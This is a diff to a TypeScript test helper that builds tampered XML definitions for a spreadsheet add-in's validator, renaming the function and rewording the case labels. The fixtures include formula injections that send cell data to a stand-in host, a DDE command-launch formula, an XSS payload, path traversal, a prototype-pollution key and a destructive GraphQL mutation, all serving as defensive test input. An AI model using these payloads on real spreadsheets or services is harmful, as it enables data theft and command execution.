@@ -1,7 +1,7 @@
 const outsideAddress = 'https://elsewhere.invalid';
 
 /** Tampered versions of a valid definition, by name. */
-export function hostileParts(validXml: string): Readonly<Record<string, string>> {
+export function createHostileParts(validXml: string): Readonly<Record<string, string>> {
   const replaceQuery = (formula: string) =>
     validXml.replace(/<question>.*?<\/question>/s, `<question>${escape(formula)}</question>`);
   const replaceAttribute = (name: string, value: string) =>
@@ -10,28 +10,28 @@ export function hostileParts(validXml: string): Readonly<Record<string, string>>
   const addDocumentType = (type: string, text = '&a;') =>
     `<!DOCTYPE block ${type}>${replaceQuery('=').replace('=</question>', `=${text}</question>`)}`;
   return {
-    'a question that calls the web': replaceQuery(`=WEBSERVICE("${outsideAddress}/?"&A1)`),
-    'a question that is a link': replaceQuery(`=HYPERLINK("${outsideAddress}","Open")`),
-    'a question that starts a program': replaceQuery(`=cmd|' /C calc'!A0`),
-    'a question with another function inside': replaceQuery(`=IDS.POSITIONS(WEBSERVICE("${outsideAddress}"),"last")`),
-    'a question with something behind it': replaceQuery(`=IDS.POSITIONS(1,"last")&WEBSERVICE("${outsideAddress}")`),
-    'a question about cells of another file': replaceQuery(
+    'a query that calls a web service': replaceQuery(`=WEBSERVICE("${outsideAddress}/?"&A1)`),
+    'a query that is a link': replaceQuery(`=HYPERLINK("${outsideAddress}","Open")`),
+    'a query that starts a program': replaceQuery(`=cmd|' /C calc'!A0`),
+    'a query with another function inside': replaceQuery(`=IDS.POSITIONS(WEBSERVICE("${outsideAddress}"),"last")`),
+    'a query followed by another call': replaceQuery(`=IDS.POSITIONS(1,"last")&WEBSERVICE("${outsideAddress}")`),
+    'a query with cells of another file': replaceQuery(
       `=IDS.POSITIONS('${outsideAddress}/[book.xlsx]Sheet1'!A1,"last")`,
     ),
-    'a question about a shared file': replaceQuery(
+    'a query with cells of a shared file': replaceQuery(
       `=IDS.POSITIONS('\\\\elsewhere.invalid\\share\\[book.xlsx]S'!A1,"last")`,
     ),
-    'a question with a way up in it': replaceQuery('=IDS.QUERY("../../../elsewhere?x=","top=1")'),
-    'a question with a whole address in it': replaceQuery(`=IDS.QUERY("${outsideAddress}/v2/odata/Positions","top=1")`),
-    'a question with an address for its filter': replaceQuery(
+    'a query with a path to a parent folder': replaceQuery('=IDS.QUERY("../../../elsewhere?x=","top=1")'),
+    'a query with an absolute address': replaceQuery(`=IDS.QUERY("${outsideAddress}/v2/odata/Positions","top=1")`),
+    'a query with an address in its filter': replaceQuery(
       `=IDS.QUERY("Positions","filter=1 eq 1&$apply=${outsideAddress}")`,
     ),
-    'a question for a resource elsewhere': replaceQuery(`=IDS.V1("//elsewhere.invalid/v1/Positions",1,"last")`),
-    'a document that reads its own description': replaceQuery('=IDS.GRAPHQL("{ __schema { types { name } } }")'),
-    'a document that changes something': replaceQuery('=IDS.GRAPHQL("mutation { deleteAll { id } }")'),
-    'a question of 8,000 characters': replaceQuery(`=IDS.POSITIONS(1,"last","${'Quantity;'.repeat(900)}")`),
-    'a question of nothing': replaceQuery('='),
-    'a question nested 3,000 deep': replaceQuery(`=${'('.repeat(3_000)}`),
+    'a query for a resource elsewhere': replaceQuery(`=IDS.V1("//elsewhere.invalid/v1/Positions",1,"last")`),
+    'a document that reads the schema': replaceQuery('=IDS.GRAPHQL("{ __schema { types { name } } }")'),
+    'a document that changes data': replaceQuery('=IDS.GRAPHQL("mutation { deleteAll { id } }")'),
+    'a query of 8,000 characters': replaceQuery(`=IDS.POSITIONS(1,"last","${'Quantity;'.repeat(900)}")`),
+    'an empty query': replaceQuery('='),
+    'a query nested 3,000 deep': replaceQuery(`=${'('.repeat(3_000)}`),
     'a service and a token of its own': addElement(
       `<service>${outsideAddress}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`,
     ),
@@ -49,20 +49,20 @@ export function hostileParts(validXml: string): Readonly<Record<string, string>>
     'markup in the name of a column': replaceAttribute('header', '<img src=x onerror=alert(1)>'),
     'a formula in the name of a column': replaceAttribute('header', `=HYPERLINK("${outsideAddress}","Quantity")`),
     'a formula in the name of a person': replaceAttribute('by', `=WEBSERVICE("${outsideAddress}")`),
-    'a formula for a hash': replaceAttribute('hash', '=1+1'),
-    'a name that every object has': replaceAttribute('header', '__proto__'),
+    'a formula as its hash': replaceAttribute('hash', '=1+1'),
+    'a property name of every object': replaceAttribute('header', '__proto__'),
     'a column of an unknown kind': replaceAttribute('kind', 'script'),
     'a time without end': replaceAttribute('fetchedAt', '1e999'),
-    'a time after all times': replaceAttribute('fetchedAt', '9e15'),
+    'a time after the last valid one': replaceAttribute('fetchedAt', '9e15'),
     'rows below zero': replaceAttribute('rows', '-5'),
-    'a process date that is none': replaceAttribute('asOf', '2026-02-31'),
+    'an invalid process date': replaceAttribute('asOf', '2026-02-31'),
     'an id that is a path': replaceAttribute('id', '../../x'),
-    'a writing that never ends': addElement('<writing since="99999999999999" session="other" by="=1+1"/>'),
+    'a lock that never ends': addElement('<writing since="99999999999999" session="other" by="=1+1"/>'),
     'a note outside the sheet': addElement('<note sheet="=1+1" row="1048576" column="0" rows="1" columns="1"/>'),
     'a note on the whole sheet': addElement('<note sheet="Sheet1" row="0" column="0" rows="1048575" columns="16000"/>'),
     'a key without its column': addElement('<key>Other</key>'),
     'a version from the future': replaceAttribute('version', '99'),
-    'a version that is none': replaceAttribute('version', '-1'),
+    'a negative version': replaceAttribute('version', '-1'),
     'half of it': validXml.slice(0, validXml.length / 2),
     'a megabyte of it': addElement(`<!--${'x'.repeat(1_000_000)}-->`),
     '3,000 columns': addElement(
